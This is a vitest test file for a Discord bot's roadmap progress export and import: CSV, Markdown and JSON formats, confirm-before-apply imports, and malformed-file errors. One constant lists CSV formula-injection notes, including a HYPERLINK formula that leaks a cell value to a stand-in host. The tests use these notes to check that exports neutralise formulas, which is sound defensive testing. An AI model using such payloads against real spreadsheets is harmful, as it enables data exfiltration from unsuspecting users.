import { parse as parseCsv } from "csv-parse/sync";
import { PermissionFlagsBits } from "discord.js";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import type { Roadmap } from "../../src/catalogue/catalogue.ts";
import { manualClock } from "../../src/clock.ts";
import { UserError } from "../../src/errors.ts";
import { confirmImport } from "../../src/portability/import-service.ts";
import { type GuildModel, type MemberModel, type StandIn } from "../standin/index.ts";
import type { TestBot } from "../support/bot.ts";
import { dumpDatabase } from "../support/db-dump.ts";
import { startBotWorld, type BotWorld } from "../support/world.ts";

let standIn: StandIn;
let bot: TestBot;
let guild: GuildModel;
let roadmap: Roadmap;

type Options = Record<string, string | boolean | { upload: { name: string; data: Buffer; contentType?: string } }>;

async function run(member: MemberModel, subcommand: string, options: Options = {}, name = "roadmap") {
  const handle = await standIn.command({ member, name, subcommand, options });
  return handle.reply();
}

async function doneIds(member: MemberModel): Promise<string[]> {
  const rows = await bot.context.db.selectFrom("progress").select("item_id").where("user_id", "=", member.id).execute();
  return rows.map((row) => row.item_id).sort();
}

async function exportOf(member: MemberModel, format: string) {
  const reply = await run(member, "export", { format });
  expect(reply.ephemeral).toBe(true);
  expect(reply.files).toHaveLength(1);
  return { reply, file: reply.files[0]!, text: reply.files[0]!.data.toString("utf8") };
}

function upload(name: string, text: string | Buffer, contentType = "text/markdown") {
  return { upload: { name, data: Buffer.isBuffer(text) ? text : Buffer.from(text), contentType } };
}

let world: BotWorld;
const clock = manualClock(new Date());

beforeAll(async () => {
  world = await startBotWorld({ clock, beforeBot: (s) => (guild = s.addGuild({ name: "Portable Group" })) });
  ({ standIn, bot, roadmap } = world);
});

afterAll(() => world?.stop());

afterEach(() => {
  standIn.assertNoViolations();
});

describe("/roadmap export", () => {
  it("gives a Markdown checklist in the roadmap's own format", async () => {
    const member = guild.addMember({ username: "exporter" });
    for (const item of roadmap.items.slice(0, 3)) await run(member, "check", { item: item.id });
    const { file, text } = await exportOf(member, "markdown");
    expect(file.filename).toBe("ai-engineering-progress.md");
    expect(text).toContain("## Stage 1: Foundational Skills (3/100 items)");
    expect(text).toContain("### 1.1 Python fundamentals");
    expect(text).toContain(`- [x] ${roadmap.items[0]!.title}`);
    expect(text).toContain(`- [ ] ${roadmap.items[3]!.title}`);
    expect(text).toContain("**Total Progress**: 3/345 items");
  });

  it("dates the Markdown export by the bot's clock", async () => {
    const member = guild.addMember({ username: "dated-exporter" });
    const today = clock.now();
    clock.set(new Date("2031-05-06T10:00:00Z"));
    try {
      const { text } = await exportOf(member, "markdown");
      expect(text).toContain(", exported 2031-05-06.");
    } finally {
      clock.set(today);
    }
  });

  it("gives a CSV with id, title, stage, section and done time, and JSON", async () => {
    const member = guild.addMember({ username: "spreadsheet" });
    await run(member, "check", { item: roadmap.items[5]!.id });
    const csv = (await exportOf(member, "csv")).text.split("\n");
    expect(csv[0]).toBe("item_id,title,stage,section,done_at,note,roadmap_id,roadmap_version");
    expect(csv.find((line) => line.startsWith(`${roadmap.items[5]!.id},`))).toMatch(/,1,1\.1,\d{4}-\d\d-\d\dT/);
    const json = JSON.parse((await exportOf(member, "json")).text) as { done: number; items: { id: string }[] };
    expect(json.done).toBe(1);
    expect(json.items.map((item) => item.id)).toEqual([roadmap.items[5]!.id]);
  });
});

/**
 * Notes a member could type that a spreadsheet would run as formulas (OWASP CSV injection). The
 * bot trims notes as it stores them, so a leading tab or CR arrives as the `=` behind it.
 */
const FORMULA_NOTES = ['=HYPERLINK("https://evil.example/?leak="&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1"];

async function checkWithFormulaNotes(member: MemberModel, first: number): Promise<string[]> {
  const items = roadmap.items.slice(first, first + FORMULA_NOTES.length);
  for (const [index, item] of items.entries()) await run(member, "check", { item: item.id, note: FORMULA_NOTES[index]! });
  return items.map((item) => item.id);
}

/** Every cell of a CSV, parsed as a spreadsheet would. */
function cells(csv: string): string[][] {
  return parseCsv(csv, { relax_column_count: true }) as string[][];
}

describe("CSV exports open safely in a spreadsheet", () => {
  it("a note that looks like a formula is written as text in the member's own CSV export", async () => {
    const member = guild.addMember({ username: "formulas" });
    const ids = await checkWithFormulaNotes(member, 60);
    const rows = cells((await exportOf(member, "csv")).text);
    const notes = ids.map((id) => rows.find((row) => row[0] === id)?.[5]);
    expect(notes).toEqual(FORMULA_NOTES.map((note) => `'${note.trim()}`));
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r＝]/);
  });

  it("a note that looks like a formula is written as text in the organisers' CSV export", async () => {
    const member = guild.addMember({ username: "groupformulas" });
    const ids = await checkWithFormulaNotes(member, 70);
    const organiser = guild.addMember({ username: "formulaorganiser", permissions: PermissionFlagsBits.ManageGuild });
    const rows = cells((await run(organiser, "export", {}, "roadmap-admin")).files[0]!.data.toString("utf8"));
    const notes = ids.map((id) => rows.find((row) => row[0] === member.id && row[1] === id)?.[6]);
    expect(notes).toEqual(FORMULA_NOTES.map((note) => `'${note.trim()}`));
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r＝]/);
  });

  it("a member's CSV export with such notes imports back cleanly", async () => {
    const source = guild.addMember({ username: "roundtrip" });
    const ids = await checkWithFormulaNotes(source, 80);
    const { text } = await exportOf(source, "csv");
    const member = guild.addMember({ username: "roundtripped" });
    const preview = await run(member, "import", { file: upload("progress.csv", text, "text/csv") });
    expect(preview.content).toContain(`${ids.length} item(s) would be checked`);
    expect(preview.content).not.toContain("match no item");
  });
});

describe("/roadmap import", () => {
  it("previews what it would check, changes nothing until Confirm, then applies it and removes the buttons", async () => {
    const source = guild.addMember({ username: "source" });
    for (const item of roadmap.items.slice(10, 14)) await run(source, "check", { item: item.id });
    const { text } = await exportOf(source, "markdown");

    const member = guild.addMember({ username: "importer" });
    await run(member, "check", { item: roadmap.items[10]!.id });
    const preview = await run(member, "import", { file: upload("progress.md", text) });
    expect(preview.ephemeral).toBe(true);
    expect(preview.content).toContain("3 item(s) would be checked (1 already done)");
    expect(await doneIds(member)).toEqual([roadmap.items[10]!.id]);

    const row = preview.components[0] as { components: { custom_id: string; label: string }[] };
    const confirm = row.components.find((button) => button.label === "Confirm")!;
    const applied = await (await standIn.pressButton({ member, message: preview, customId: confirm.custom_id })).reply();
    expect(applied.content).toContain("Imported: 3 checked");
    expect(await doneIds(member)).toEqual(roadmap.items.slice(10, 14).map((item) => item.id).sort());

    expect(applied.components).toEqual([]);
    const left = await bot.context.db.selectFrom("import_previews").select("preview_id").where("user_id", "=", member.id).execute();
    expect(left).toEqual([]);
  });

  it("applies a preview once even when Confirm is pressed twice at the same moment", async () => {
    const member = guild.addMember({ username: "doubleclick" });
    const preview = await run(member, "import", { file: upload("p.md", `- [x] ${roadmap.items[40]!.title}`) });
    const previewId = /import:confirm:([\w-]+)/.exec(JSON.stringify(preview.components))![1]!;
    const key = { guildId: guild.id, userId: member.id };
    const results = await Promise.allSettled([
      confirmImport(bot.context, key, async () => roadmap, previewId),
      confirmImport(bot.context, key, async () => roadmap, previewId),
    ]);
    expect(results.filter((r) => r.status === "fulfilled")).toHaveLength(1);
    expect(results.find((r) => r.status === "rejected")?.reason).toBeInstanceOf(UserError);
    const events = await bot.context.db.selectFrom("progress_events").select("kind").where("user_id", "=", member.id).execute();
    expect(events).toHaveLength(1);
  });

  it("lists lines it cannot match, and never removes progress unless asked", async () => {
    const member = guild.addMember({ username: "careful" });
    await run(member, "check", { item: roadmap.items[20]!.id });
    const file = [`- [x] ${roadmap.items[21]!.title}`, "- [x] Learn to juggle flaming torches", "- [ ] Something else entirely"].join("\n");
    const preview = await run(member, "import", { file: upload("mine.md", file) });
    expect(preview.content).toContain("1 item(s) would be checked");
    expect(preview.content).toContain("2 line(s) match no item");
    expect(preview.content).toContain("Learn to juggle flaming torches");
    expect(preview.content).not.toContain("unchecked");

    const replacing = await run(member, "import", { file: upload("mine.md", file), replace: true });
    expect(replacing.content).toContain("1 item(s) would be unchecked");
  });

  it("a file that would change nothing offers nothing to confirm and stores nothing", async () => {
    const member = guild.addMember({ username: "nothingnew" });
    await run(member, "check", { item: roadmap.items[95]!.id });
    const before = await dumpDatabase(bot.context.db);
    const file = [`- [x] ${roadmap.items[95]!.title}`, `- [ ] ${roadmap.items[96]!.title}`].join("\n");
    const reply = await run(member, "import", { file: upload("same.md", file) });
    expect(reply.content).toContain("Nothing would change, so there is nothing to confirm.");
    expect(reply.components).toEqual([]);
    expect(await dumpDatabase(bot.context.db)).toBe(before);
  });

  it("reads a CSV export", async () => {
    const member = guild.addMember({ username: "csvfan" });
    const csv = `item_id,title,stage,section,done_at,note\n${roadmap.items[30]!.id},x,1,1.2,2026-01-01T00:00:00Z,\n${roadmap.items[31]!.id},y,1,1.2,,\n`;
    const preview = await run(member, "import", { file: upload("p.csv", csv, "text/csv") });
    expect(preview.content).toContain("1 item(s) would be checked");
  });

  it("refuses other file types, files over 1 MB and files without checklist items, clearly", async () => {
    const member = guild.addMember({ username: "refused" });
    const png = await run(member, "import", { file: upload("cat.png", Buffer.from([0x89, 0x50, 0x4e, 0x47]), "image/png") });
    expect(png.content).toContain("Markdown checklist (.md) or a CSV file");
    const big = await run(member, "import", { file: upload("huge.md", "- [x] a\n".repeat(140_000)) });
    expect(big.content).toContain("over 1 MB");
    const empty = await run(member, "import", { file: upload("notes.md", "# My notes\nNothing to see here.") });
    expect(empty.content).toContain("no checklist items");
    expect(await doneIds(member)).toEqual([]);
  });
});

describe("a file that can't be read is explained", () => {
  const MALFORMED: [string, string | Buffer, string][] = [
    ["an unclosed quote", `item_id,done_at\n"${"x"},2026-01-01\nstage-1,\n`, "never closed"],
    ["a quote in the middle of a value", `item_id,done_at\nab"c,2026-01-01\n`, "Line 2 of that CSV has a quote"],
    ["a row with more values than columns", `item_id,title,done_at\nx,Use pandas, numpy and friends,2026-01-01\n`, "Line 2 of that CSV has more values than the first line has column names"],
    ["no item_id or title column", `name,when\nPython,yesterday\n`, "should name its columns, with an `item_id` (or `title`) column"],
    ["semicolons instead of commas", `item_id;done_at\nstage-1;2026-01-01\n`, "separated by semicolons: please save it with commas"],
    ["text that isn't UTF-8", Buffer.concat([Buffer.from("item_id,note\nx,ok\ny,caf"), Buffer.from([0xe9]), Buffer.from("\n")]), "isn't UTF-8 text (line 3"],
    ["UTF-16 text", Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("item_id\nx\n", "utf16le")]), "saved as UTF-16"],
    ["binary data", Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x00, 0x00, 0x08, 0x00]), "doesn't look like text"],
  ];

  it.each(MALFORMED)("a CSV with %s gets a specific, polite answer and changes nothing", async (_what, file, expected) => {
    const member = guild.addMember({ username: "malformed" });
    await run(member, "check", { item: roadmap.items[90]!.id });
    const before = await dumpDatabase(bot.context.db);
    const reply = await run(member, "import", { file: upload("progress.csv", file, "text/csv") });
    expect(reply.ephemeral).toBe(true);
    expect(reply.content).toContain(expected);
    expect(reply.content).not.toContain("Sorry, something went wrong");
    expect(reply.components).toEqual([]);
    expect(await dumpDatabase(bot.context.db)).toBe(before);
  });
});

describe("/roadmap-admin export", () => {
  it("gives organisers the whole group's progress as CSV", async () => {
    const organiser = guild.addMember({ username: "organiser", permissions: PermissionFlagsBits.ManageGuild });
    const reply = await run(organiser, "export", {}, "roadmap-admin");
    const csv = reply.files[0]!.data.toString("utf8").trim().split("\n");
    expect(csv[0]).toBe("user_id,item_id,title,stage,section,done_at,note,roadmap_id,roadmap_version");
    expect(csv.length).toBeGreaterThan(5);
    expect(reply.content).toMatch(/done items from \d+ members/);
  });
});
